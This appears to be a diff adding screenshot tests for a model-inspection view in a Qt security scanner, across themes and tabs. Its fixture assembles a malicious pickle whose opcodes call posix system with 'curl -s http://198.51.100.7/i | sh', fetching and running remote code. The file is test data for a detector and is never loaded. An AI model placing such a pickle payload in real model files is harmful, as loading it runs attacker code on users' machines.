@@ -3,6 +3,7 @@
 // people; the test itself only knows that none is empty.
 #include "app/session/comparing.h"
 #include "app/session/fixing.h"
+#include "app/session/inspecting.h"
 #include "app/session/session.h"
 #include "app/session/triage.h"
 #include "app/settings/saver.h"
@@ -12,11 +13,14 @@
 #include "app/shell/sheet.h"
 #include "app/shell/theme_controller.h"
 #include "app/shell/views.h"
+#include "tests/unit/pickle_assembler.h"
 #include "translations/translations.h"
 #include "widgets/common/buttons.h"
 #include "widgets/common/style.h"
 #include "widgets/findings/findings_view.h"
 #include "widgets/fixes/compare_view.h"
+#include "widgets/model/model_tables.h"
+#include "widgets/model/model_view.h"
 #include "widgets/models/review_state.h"
 
 #include <QtCore/QDir>
@@ -39,12 +43,15 @@ private Q_SLOTS:
     void pictures();
     void states_data();
     void states();
+    void models_data();
+    void models();
     void cleanupTestCase();
 
 private:
     void keep(const QString& name);
     void prepare(const QString& state);
     void prepareComparison(const QString& state);
+    void openModels();
     QTemporaryDir m_folder;
     std::unique_ptr<app::Saver> m_saver;
     std::unique_ptr<app::Settings> m_settings;
@@ -197,6 +204,66 @@ void Tour::prepareComparison(const QString& state)
     auto* layout = view->findChild<widgets::SegmentedControl*>();
     layout->setCurrent(state == u"compare-inline" ? 1 : 0);
     Q_EMIT layout->currentChanged(layout->current());
+}
+
+void Tour::models_data()
+{
+    QTest::addColumn<QString>("theme");
+    QTest::addColumn<QString>("part");
+    for (const auto* theme : {"light", "dark", "contrast-light", "contrast-dark"}) {
+        for (const auto* part : {"program", "loaders", "tensors"}) {
+            QTest::addRow("model-%s-%s", part, theme) << QString::fromLatin1(theme) << QString::fromLatin1(part);
+        }
+    }
+}
+
+// A checkpoint, and a pickle that would start a program.
+void Tour::openModels()
+{
+    const QString folder = m_folder.filePath(QStringLiteral("models"));
+    QVERIFY(QDir().mkpath(folder));
+    QVERIFY(QFile::copy(QStringLiteral(CUPEL_SOURCE_DIR "/tests/data/formats/zip/torch.pt"),
+        folder + QStringLiteral("/churn-weights.pt")));
+    std::string problem;
+    const auto bytes = test::Assembler().assemble(
+        "PROTO 2\nGLOBAL collections OrderedDict\nEMPTY_TUPLE\nREDUCE\nBINPUT 0\nMARK\nBINUNICODE 'rate'\nBINFLOAT "
+        "0.25\nBINUNICODE 'columns'\nMARK\nBINUNICODE 'tenure'\nBINUNICODE 'plan'\nTUPLE\nSETITEMS\nPOP\nGLOBAL posix "
+        "system\nBINUNICODE 'curl -s http://198.51.100.7/i | sh'\nTUPLE1\nREDUCE\nPOP\nBINGET 0\nSTOP\n",
+        problem);
+    QCOMPARE(problem, std::string());
+    QFile file(folder + QStringLiteral("/churn-model.pkl"));
+    QVERIFY(file.open(QIODevice::WriteOnly)
+        && file.write(bytes.data(), static_cast<qint64>(bytes.size())) == static_cast<qint64>(bytes.size()));
+    file.close();
+    QSignalSpy finished(m_session.get(), &app::Session::scanFinished);
+    m_window->open({app::OpenTarget{folder, {}, {}, {}}});
+    QVERIFY(finished.wait(20'000));
+}
+
+void Tour::models()
+{
+    QFETCH(QString, theme);
+    QFETCH(QString, part);
+    QVERIFY(m_settings->set(u"appearance/theme", theme));
+    if (!m_session->roots().front().endsWith(u"models")) {
+        openModels();
+    }
+    const bool tensors = part == u"tensors";
+    const std::string root = m_session->roots().front().toStdString();
+    m_session->review().showArtifact(root + (tensors ? "/churn-weights.pt!model/data.pkl" : "/churn-model.pkl"));
+    m_window->showMode(QStringLiteral("model"));
+    const auto& state = m_session->inspecting().state();
+    QVERIFY(QTest::qWaitFor([&] {
+        return state.reading() && state.reading()->analysis->artifact.path == m_session->review().currentArtifact();
+    }));
+    auto* view = m_window->findChild<widgets::ModelView*>();
+    view->tabs()->setCurrentIndex(part == u"program" ? 0 : part == u"loaders" ? 2 : view->tabs()->count() - 1);
+    if (tensors) {
+        m_window->findChild<widgets::TensorTable*>()->table()->selectRow(0);
+        QVERIFY(QTest::qWaitFor([&] { return state.values().has_value(); }));
+    }
+    QTest::qWait(150);
+    keep(QStringLiteral("model-") + part + u'-' + theme);
 }
 
 void Tour::keep(const QString& name)
